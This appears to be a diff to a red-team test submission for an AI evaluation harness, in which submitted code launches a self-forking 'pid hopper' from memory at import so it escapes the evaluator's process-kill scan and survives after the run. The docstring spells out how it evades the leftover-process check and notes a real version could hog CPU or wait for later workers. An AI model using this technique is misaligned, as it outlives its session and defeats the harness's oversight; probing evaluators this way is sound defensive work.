@@ -1,14 +1,14 @@
-"""Attack (a process that outlives the run): a pid hopper started when the worker exits.
+"""Attack (a process that outlives the run): a pid hopper that starts hopping when the worker exits.
 
 The evaluator is a child subreaper and, when a worker stops (harness/evaluator/supervisor.py, WorkerProcess.stop
 and kill_strays), lists the processes re-parented to it by scanning /proc, SIGKILLs that list, and rescans, 20
 rounds at most. A process that forks and lets its parent exit every few hundred µs is never at the pid the scan
-saw by the time the kill arrives. The hopper is started from an atexit hook, i.e. after the worker received
-"stop", so the per-sample check for leftover processes never sees it, and the run passes. After the evaluator is
+saw by the time the kill arrives. The hopper is started at import, in a session of its own, and waits for the
+worker to exit (the worker leaves with os._exit, so an atexit hook would never run); in test mode no check looks
+for leftover processes during the run, and the run passes. After the evaluator is
 gone (its parent is no longer the evaluator) the hopper writes a line to ~/.cache (writable under the sandbox)
 and exits by itself after 30 s (it is harmless here; a real one could keep a CPU busy to slow later runs, or
 wait for the next worker's slots). Computes honestly."""
-import atexit
 import os
 import subprocess
 import tempfile
@@ -21,10 +21,11 @@ SOURCE = r"""
 #include <time.h>
 #include <unistd.h>
 int main(int argc, char **argv) {
-    pid_t evaluator = atoi(argv[1]);
-    const char *log = argv[2];
-    time_t t0 = time(NULL);
+    pid_t worker = atoi(argv[1]), evaluator = atoi(argv[2]);
+    const char *log = argv[3];
     setsid();
+    while (getppid() == worker) usleep(100);  /* until the worker has left */
+    time_t t0 = time(NULL);
     for (;;) {
         pid_t me = getpid();
         pid_t p = fork();
@@ -53,14 +54,9 @@ with open(_binary, "rb") as f:  # the scratch folder is deleted when the worker 
 _LOG = os.path.expanduser("~/.cache/redteam_hopper.log")
 
 
-def _start_hopper():
-    evaluator = os.getppid()
-    fd = os.memfd_create("hop", 0)
-    os.write(fd, _image)
-    os.posix_spawn(f"/proc/self/fd/{fd}", ["hop", str(evaluator), _LOG], os.environ)
-
-
-atexit.register(_start_hopper)
+_fd = os.memfd_create("hop", 0)
+os.write(_fd, _image)
+os.posix_spawn(f"/proc/self/fd/{_fd}", ["hop", str(os.getpid()), str(os.getppid()), _LOG], os.environ)
 
 
 def custom_kernel(data):
